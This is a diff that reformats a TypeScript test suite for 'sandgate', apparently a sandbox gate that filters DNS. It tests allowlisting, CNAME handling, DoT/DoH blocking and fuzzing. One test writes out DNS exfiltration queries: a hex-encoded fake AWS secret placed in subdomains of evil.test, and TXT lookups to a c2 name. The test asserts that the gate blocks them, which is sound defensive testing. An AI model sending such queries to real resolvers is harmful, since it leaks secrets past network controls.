@@ -1,5 +1,16 @@
 import test from 'ava';
-import { createWorld, startGate, startFakeResolver, baseConfig, bodyOf, WIRE_NODE_ARGS, WIRE_PRELUDE, type World, type Gate, type Upstream } from '../helpers/gate.js';
+import {
+  createWorld,
+  startGate,
+  startFakeResolver,
+  baseConfig,
+  bodyOf,
+  WIRE_NODE_ARGS,
+  WIRE_PRELUDE,
+  type World,
+  type Gate,
+  type Upstream,
+} from '../helpers/gate.js';
 import { validateConfig } from '../../src/config/validate.js';
 import { compilePolicies } from '../../src/policy/policy.js';
 
@@ -12,23 +23,24 @@ let g: Gate;
 let resolver: Upstream;
 let config: Record<string, unknown>;
 
-const ALLOW = [
-  { host: 'api.example.test' },
-  { host: 'plain.example.test', ports: [80] },
-  { host: '*.wild.example.test' },
-  { host: 'alias.example.test' },
-];
+const ALLOW = [{ host: 'api.example.test' }, { host: 'plain.example.test', ports: [80] }, { host: '*.wild.example.test' }, { host: 'alias.example.test' }];
 
 test.before(async () => {
   w = await createWorld();
   resolver = await startFakeResolver(w.topo, 'b', [
-    '--answer', `x.wild.example.test=${w.a}`,
-    '--answer', `deep.x.wild.example.test=${w.a}`,
-    '--answer', `target.example.test=${w.a}`,
-    '--cname', 'alias.example.test=target.example.test',
+    '--answer',
+    `x.wild.example.test=${w.a}`,
+    '--answer',
+    `deep.x.wild.example.test=${w.a}`,
+    '--answer',
+    `target.example.test=${w.a}`,
+    '--cname',
+    'alias.example.test=target.example.test',
     // Would be answered if sandgate ever forwarded them: the record must stay free of them.
-    '--answer', `evil.example.test=${w.b}`,
-    '--answer', `dns.example.test=${w.b}`,
+    '--answer',
+    `evil.example.test=${w.b}`,
+    '--answer',
+    `dns.example.test=${w.b}`,
   ]);
   config = {
     ...baseConfig(w, {
@@ -49,16 +61,23 @@ test.after.always(async () => {
   await w?.cleanup();
 });
 
-interface Dig { status: string; answers: { name: string; ttl: number; type: string; data: string }[]; raw: string }
+interface Dig {
+  status: string;
+  answers: { name: string; ttl: number; type: string; data: string }[];
+  raw: string;
+}
 
 /** dig in the sandbox; its resolv.conf names 10.77.1.1 (the host side), unless @server is given. */
 async function dig(args: string[]): Promise<Dig> {
   const r = await w.topo.exec(w.sandbox, 'dig', ['+tries=1', '+time=3', '+noall', '+comments', '+answer', ...args], { timeoutMs: 8000 });
   const status = /status: (\w+)/.exec(r.stdout)?.[1] ?? `no reply (${r.code}): ${r.stdout}${r.stderr}`;
-  const answers = r.stdout.split('\n').filter((l) => l && !l.startsWith(';')).map((l) => {
-    const [name, ttl, , type, ...data] = l.split(/\s+/);
-    return { name: name ?? '', ttl: Number(ttl), type: type ?? '', data: data.join(' ') };
-  });
+  const answers = r.stdout
+    .split('\n')
+    .filter((l) => l && !l.startsWith(';'))
+    .map((l) => {
+      const [name, ttl, , type, ...data] = l.split(/\s+/);
+      return { name: name ?? '', ttl: Number(ttl), type: type ?? '', data: data.join(' ') };
+    });
   return { status, answers, raw: r.stdout };
 }
 
@@ -78,23 +97,32 @@ const upstreamQueries = (): string[] => resolver.log.lines.filter((l) => 'query'
 test.serial('dig over UDP and TCP: allowed names answered (static and via the upstream resolver), TTL clamped', async (t) => {
   const a = await dig(['api.example.test']);
   t.is(a.status, 'NOERROR', a.raw);
-  t.deepEqual(a.answers.map((x) => [x.name, x.type, x.data]), [['api.example.test.', 'A', w.a]]);
+  t.deepEqual(
+    a.answers.map((x) => [x.name, x.type, x.data]),
+    [['api.example.test.', 'A', w.a]],
+  );
   t.true(a.answers[0]!.ttl >= 5 && a.answers[0]!.ttl <= 300);
   const x = await dig(['+tcp', 'x.wild.example.test']);
   t.is(x.status, 'NOERROR', x.raw);
-  t.deepEqual(x.answers.map((r) => r.data), [w.a]);
+  t.deepEqual(
+    x.answers.map((r) => r.data),
+    [w.a],
+  );
   t.true(upstreamQueries().includes('x.wild.example.test'), 'sandgate used the upstream resolver for a name not in upstream.hosts');
   const line = await g.log.waitFor((l) => l.event === 'dns' && l.host === 'x.wild.example.test');
   t.like(line, { proto: 'dns', decision: 'allow', sandbox: 'agent', user: 'alice', qtype: 'A', rule: 'policies.default.allow[2]', rcode: 'NOERROR' });
   t.regex(String(line.src), /^10\.77\.1\.2:\d+$/);
 });
 
-test.serial('DNS to any address is intercepted: @10.77.3.2 (the real resolver\'s address) and @10.77.2.2 get sandgate\'s answers', async (t) => {
+test.serial("DNS to any address is intercepted: @10.77.3.2 (the real resolver's address) and @10.77.2.2 get sandgate's answers", async (t) => {
   const before = upstreamQueries().length;
   for (const server of [w.b, w.a]) {
     const ok = await dig([`@${server}`, 'api.example.test']);
     t.is(ok.status, 'NOERROR', ok.raw);
-    t.deepEqual(ok.answers.map((r) => r.data), [w.a]);
+    t.deepEqual(
+      ok.answers.map((r) => r.data),
+      [w.a],
+    );
     const tcp = await dig([`@${server}`, '+tcp', 'evil.example.test']);
     t.is(tcp.status, 'NXDOMAIN', tcp.raw);
     const udp = await dig([`@${server}`, 'evil.example.test']);
@@ -106,7 +134,10 @@ test.serial('DNS to any address is intercepted: @10.77.3.2 (the real resolver\'s
 test.serial('CNAME chains are resolved by sandgate and flattened; the target is not itself answerable', async (t) => {
   const r = await dig(['alias.example.test']);
   t.is(r.status, 'NOERROR', r.raw);
-  t.deepEqual(r.answers.map((x) => [x.name, x.type, x.data]), [['alias.example.test.', 'A', w.a]]);
+  t.deepEqual(
+    r.answers.map((x) => [x.name, x.type, x.data]),
+    [['alias.example.test.', 'A', w.a]],
+  );
   t.is((await dig(['target.example.test'])).status, 'NXDOMAIN');
   // A covered name the upstream resolver does not know: its NXDOMAIN is passed on.
   t.is((await dig(['nosuch.wild.example.test'])).status, 'NXDOMAIN');
@@ -138,7 +169,12 @@ test.serial('system resolver clients: getent, Node dns.lookup, python getaddrinf
     console.log(JSON.stringify({ ok: await look('x.wild.example.test'), no: await look('evil.example.test') }));`);
   t.deepEqual(node, { ok: [{ address: w.a, family: 4 }], no: 'ENOTFOUND' });
 
-  const py = await w.topo.exec(w.sandbox, 'python3', ['-c', `
+  const py = await w.topo.exec(
+    w.sandbox,
+    'python3',
+    [
+      '-c',
+      `
 import socket, json
 ok = sorted({a[4][0] for a in socket.getaddrinfo('deep.x.wild.example.test', 443, proto=socket.IPPROTO_TCP)})
 try:
@@ -146,7 +182,10 @@ try:
     no = 'resolved'
 except socket.gaierror as e:
     no = e.errno == socket.EAI_NONAME
-print(json.dumps({'ok': ok, 'no': no}))`], { timeoutMs: 8000 });
+print(json.dumps({'ok': ok, 'no': no}))`,
+    ],
+    { timeoutMs: 8000 },
+  );
   t.deepEqual(JSON.parse(py.stdout || '{}'), { ok: [w.a], no: true }, py.stderr);
 
   // curl resolves through the system resolver (no --resolve), then connects through sandgate.
@@ -161,9 +200,20 @@ test.serial('wildcard semantics are identical to TLS (one matcher)', async (t) =
   const { config: cfg } = validateConfig(config);
   const policy = compilePolicies(cfg!).byName.get('default')!;
   const names = [
-    'api.example.test', 'API.Example.TEST', 'a.api.example.test', 'example.test', 'wild.example.test',
-    'x.wild.example.test', 'deep.x.wild.example.test', 'X.WILD.example.test', 'xwild.example.test',
-    'wild.example.test.evil.test', 'x-wild.example.test', 'plain.example.test', 'alias.example.test', '_srv.wild.example.test',
+    'api.example.test',
+    'API.Example.TEST',
+    'a.api.example.test',
+    'example.test',
+    'wild.example.test',
+    'x.wild.example.test',
+    'deep.x.wild.example.test',
+    'X.WILD.example.test',
+    'xwild.example.test',
+    'wild.example.test.evil.test',
+    'x-wild.example.test',
+    'plain.example.test',
+    'alias.example.test',
+    '_srv.wild.example.test',
   ];
   for (const n of names) {
     // AAAA: answered from policy alone (no upstream lookup), so the verdict is the policy's.
@@ -175,9 +225,18 @@ test.serial('wildcard semantics are identical to TLS (one matcher)', async (t) =
 
 test.serial('exfiltration: long labels, TXT, straight-to-resolver queries, 2,000 random subdomains: nothing reaches the resolver', async (t) => {
   const secret = Buffer.from('AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY and more secret material '.repeat(3)).toString('hex');
-  const labels = secret.match(/.{1,63}/g)!.slice(0, 3).join('.');
-  for (const args of [[`${labels}.exfil.evil.test`], ['-t', 'TXT', `${labels}.t.evil.test`], ['+tcp', '-t', 'TXT', 'cmd.c2.evil.test'],
-    [`@${w.b}`, '-t', 'TXT', `${labels}.direct.evil.test`], [`@${w.b}`, '+tcp', `${labels}.direct-tcp.evil.test`], ['-t', 'NULL', 'x.evil.example.test']]) {
+  const labels = secret
+    .match(/.{1,63}/g)!
+    .slice(0, 3)
+    .join('.');
+  for (const args of [
+    [`${labels}.exfil.evil.test`],
+    ['-t', 'TXT', `${labels}.t.evil.test`],
+    ['+tcp', '-t', 'TXT', 'cmd.c2.evil.test'],
+    [`@${w.b}`, '-t', 'TXT', `${labels}.direct.evil.test`],
+    [`@${w.b}`, '+tcp', `${labels}.direct-tcp.evil.test`],
+    ['-t', 'NULL', 'x.evil.example.test'],
+  ]) {
     t.is((await dig(args)).status, 'NXDOMAIN', args.join(' '));
   }
 
@@ -202,7 +261,10 @@ test.serial('exfiltration: long labels, TXT, straight-to-resolver queries, 2,000
   const leaked = upstreamQueries().filter((n) => !ALLOW.some((r) => r.host === n || (r.host.startsWith('*.') && n.endsWith(r.host.slice(1)))));
   t.deepEqual(leaked, [], 'the upstream resolver saw only allowed names');
   t.false(upstreamQueries().some((n) => n.includes('evil')));
-  t.true(resolver.log.lines.every((l) => !('query' in l) || l.type === 'A'), 'only A queries ever left the host');
+  t.true(
+    resolver.log.lines.every((l) => !('query' in l) || l.type === 'A'),
+    'only A queries ever left the host',
+  );
 });
 
 test.serial('DoT (853) and DoH to an unlisted resolver host are reset', async (t) => {
@@ -219,7 +281,13 @@ test.serial('DoT (853) and DoH to an unlisted resolver host are reset', async (t
   t.is(dot.error, 'ECONNRESET');
   const line = await g.log.waitFor((l) => l.event === 'conn' && l.dst === `${w.b}:853`);
   t.is(line.decision, 'deny');
-  const doh = await w.curl(['--resolve', `dns.example.test:443:${w.b}`, '-H', 'accept: application/dns-message', 'https://dns.example.test/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB']);
+  const doh = await w.curl([
+    '--resolve',
+    `dns.example.test:443:${w.b}`,
+    '-H',
+    'accept: application/dns-message',
+    'https://dns.example.test/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB',
+  ]);
   t.not(doh.code, 0);
   const dl = await g.log.waitFor((l) => l.event === 'conn' && l.host === 'dns.example.test');
   t.is(dl.decision, 'deny');
@@ -277,7 +345,13 @@ test.serial('DNS over TCP: pipelined queries answered in order on one connection
       setTimeout(() => { done({ closedEarly: closedAt.length }); socks.forEach((s) => s.destroy()); }, 600);
     });
     console.log(JSON.stringify(out));`);
-  t.deepEqual(r.pipelined, [[1, 0, 1], [2, 3, 0], [3, 0, 0], [4, 0, 1], [5, 3, 0]]);
+  t.deepEqual(r.pipelined, [
+    [1, 0, 1],
+    [2, 3, 0],
+    [3, 0, 0],
+    [4, 0, 1],
+    [5, 3, 0],
+  ]);
   t.is(r.many, 300);
   t.true(r.stalled >= 900 && r.stalled < 10000, `stalled connection closed after ${r.stalled} ms (idle timeout 1000 ms; the upper bound only detects a hang)`);
   t.true(r.oversize < 900, `oversize frame closed after ${r.oversize} ms: on the frame, before the 1000 ms idle timeout could`);
@@ -285,7 +359,8 @@ test.serial('DNS over TCP: pipelined queries answered in order on one connection
 });
 
 test.serial('fuzz: thousands of random and mutated datagrams, then the responder still answers', async (t) => {
-  const r = await inSandbox(`
+  const r = await inSandbox(
+    `
     const dgram = await import('node:dgram');
     const net = await import('node:net');
     const { randomBytes } = await import('node:crypto');
@@ -317,14 +392,22 @@ test.serial('fuzz: thousands of random and mutated datagrams, then the responder
     }
     await new Promise((r) => setTimeout(r, 300));
     console.log(JSON.stringify({ sent: N, replies, bad }));
-    s.close();`, 30000);
+    s.close();`,
+    30000,
+  );
   t.log(`fuzz: ${r.sent} datagrams sent, ${r.replies} replies`);
   t.is(r.bad, 0, 'every reply is a well-formed DNS message');
   t.true(r.replies > 1000);
   t.is(g.proc.exitCode, null, 'sandgate is still running');
   const ok = await dig(['api.example.test']);
   t.is(ok.status, 'NOERROR');
-  t.deepEqual(ok.answers.map((a) => a.data), [w.a]);
-  t.falsy(g.log.find((l) => l.event === 'error'), 'no handler failures');
+  t.deepEqual(
+    ok.answers.map((a) => a.data),
+    [w.a],
+  );
+  t.falsy(
+    g.log.find((l) => l.event === 'error'),
+    'no handler failures',
+  );
   t.false(upstreamQueries().some((n) => !ALLOW.some((rule) => rule.host === n || (rule.host.startsWith('*.') && n.endsWith(rule.host.slice(1))))));
 });
